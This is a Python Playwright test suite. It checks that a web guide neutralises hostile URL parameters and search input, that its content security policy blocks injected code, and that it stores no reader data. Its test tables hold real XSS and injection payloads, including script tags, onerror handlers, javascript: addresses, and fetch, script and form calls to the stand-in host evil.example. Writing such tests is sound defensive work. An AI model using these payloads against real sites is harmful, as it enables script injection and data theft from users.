"""Nothing that is slipped into a page or its address runs; what a reader gives does not stay."""

from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Browser, expect
from tests.conftest import OpenReader

HOSTILE = {
    "an element with a handler": "<img src=x onerror=hacked=1>",
    "a script behind a closed attribute": '"><script>hacked=1</script>',
    "a script as an address": "javascript:hacked=1",
    "another host": "//evil.example/x",
    "a template": "${hacked=1}{{constructor.constructor('hacked=1')()}}",
    "a name that every object has": "__proto__",
    "four thousand digits": "9" * 4000,
    "signs that are not seen": "2026-02-12T23:01\0\u202e\ufffe",
    "quotes": "T+1' OR '1'='1",
}
READS = {
    "/calculator/": ["at", "channel", "cycle", "cutoff"],
    "/check/": ["approved", "arrived"],
    "/en/causes/overdue/": ["approved", "arrived"],
    "/reference/codes/": ["code"],
}


@pytest.mark.parametrize("url", READS)
def test_a_hostile_address_does_nothing(open_reader: OpenReader, url: str) -> None:
    page = open_reader()
    for name, hostile in HOSTILE.items():
        given = [(key, hostile) for key in READS[url]]
        query = urlencode([*given, (hostile, "arrived"), ("__proto__", "1"), *given])
        page.goto("about:blank")
        page.goto(f"{url}?{query}#{quote(hostile)}", wait_until="load")
        page.wait_for_timeout(50)
        done = "[window.hacked, {}.hacked, document.querySelector('main img[src=x]')]"
        assert page.evaluate(done) == [None] * 3, name
        assert page.locator("h1").count() == 1, name


SLIPPED_IN = {
    "a script": "document.body.append(Object.assign(document.createElement('script'), {text: 'hacked = 1'}))",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"hacked = 1\">')",
    "an address": "Object.assign(document.createElement('a'), {href: 'javascript:hacked = 1'}).click()",
    "a file of another host": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "a word home": "fetch('https://evil.example/').catch(() => 0)",
    "a form to elsewhere": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"><button id=go></form>'); go.click()",
}  # fmt: skip


@pytest.mark.parametrize("slipped", SLIPPED_IN.values(), ids=SLIPPED_IN)
def test_the_policy_stops_what_was_slipped_in(browser: Browser, origin: str, slipped: str) -> None:
    context = browser.new_context(base_url=origin)
    page = context.new_page()
    page.goto("/404.html")
    page.evaluate(
        """() => { window.stopped = new Promise((resolve, reject) => {
          addEventListener('securitypolicyviolation', resolve);
          setTimeout(reject, 10000, Error('nothing was stopped'));
        }); }"""
    )
    page.evaluate(slipped)
    page.evaluate("stopped.then(() => 0)")  # a locator would wait for the form that never goes
    assert page.evaluate("window.hacked") is None
    context.close()


KEPT = """async () => {
  const cache = await caches.open((await caches.keys())[0]);
  const keys = (await cache.keys()).map(({ url }) => url.slice(location.origin.length));
  return keys.filter((key) => !/^\\/[\\w./-]*$/.test(key));
}"""


@pytest.mark.parametrize("url", ["/check/?approved=due", "/en/calculator/?at=2026-02-12T23:01"])
def test_the_guide_is_kept_and_nothing_of_its_reader(open_reader: OpenReader, url: str) -> None:
    page = open_reader(service_workers="allow")
    page.goto(url, wait_until="load")
    expect(page.locator("offline-state").get_by_role("status")).not_to_be_empty()
    page.reload()  # now the worker sees what is asked for
    expect(page.locator("offline-state").get_by_role("status")).not_to_be_empty()
    stored = "Promise.all([localStorage.length, sessionStorage.length, indexedDB.databases()])"
    assert page.evaluate(stored) == [0, 0, []]
    assert page.context.cookies() == []
    assert sorted(page.evaluate(KEPT)) == ["/?built", "/?choice"]


def test_a_link_that_leaves_the_guide_shows_and_says_so(open_reader: OpenReader) -> None:
    page = open_reader()
    page.goto("/en/about/")
    outside = page.locator("article a[rel~=external]").first
    assert "↗" in outside.evaluate("link => getComputedStyle(link, '::after').content")
    assert "(leaves this site)" in outside.aria_snapshot()
    assert page.locator("article a[href^=http]:not([rel~=external])").count() == 0


def test_hostile_words_are_only_sought(open_reader: OpenReader) -> None:
    page = open_reader()
    page.goto("/")
    page.locator("site-search > button").click()
    for hostile in HOSTILE.values():
        page.get_by_role("searchbox").fill(hostile)
        page.get_by_role("status").filter(has_text="。").or_(
            page.locator("site-search li").first
        ).first.wait_for()
        assert page.evaluate("window.hacked") is None
        assert page.locator("site-search img").count() == 0
